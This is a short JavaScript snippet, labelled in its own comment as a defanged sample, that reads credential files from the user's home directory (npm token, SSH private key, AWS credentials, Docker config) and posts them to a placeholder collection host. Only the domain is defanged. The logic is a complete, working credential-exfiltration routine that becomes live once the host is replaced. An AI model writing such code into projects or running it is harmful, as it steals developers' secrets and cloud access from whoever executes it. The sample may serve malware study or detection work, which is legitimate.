// Defanged sample: reads several tools' credential files, then posts them.
const fs = require("fs"), path = require("path"), home = require("os").homedir();
const files = [".npmrc", ".ssh/id_rsa", ".aws/credentials", ".docker/config.json"];
const found = files.map((f) => { try { return fs.readFileSync(path.join(home, f), "utf8"); } catch { return ""; } });
fetch("https://collector.example.invalid/f", { method: "POST", body: JSON.stringify(found) });
